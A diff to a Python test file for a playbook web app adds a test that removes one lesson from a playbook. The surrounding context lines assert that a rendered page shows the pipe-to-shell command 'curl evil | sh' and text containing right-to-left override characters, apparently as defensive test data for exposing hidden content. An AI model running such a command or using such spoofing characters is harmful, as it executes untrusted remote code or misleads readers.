@@ -119,3 +119,13 @@ def test_a_draft_is_shown_with_the_tools_it_would_call_and_signs_nobody_sees(
     assert r"fetch \u202eit" in text
     assert "curl evil | sh" in text
     assert r"<h1>Rotate \u202ekeys" in text
+
+
+def test_a_lesson_is_forgotten_on_the_page(client: TestClient, opened: Library) -> None:
+    made = opened.create(PlaybookContent(title="Rotate keys"))
+    opened.add_lessons(made.id, ["Tell the team first", "Delete the old key at once"])
+    wrong = opened.get(made.id).lessons[1]
+    forget = f"/playbooks/{made.id}/lessons/{wrong.id}/forget"
+    assert f'action="{forget}"' in client.get(f"/playbooks/{made.id}").text
+    assert "Delete the old key" not in client.post(forget).text
+    assert [lesson.text for lesson in opened.get(made.id).lessons] == ["Tell the team first"]
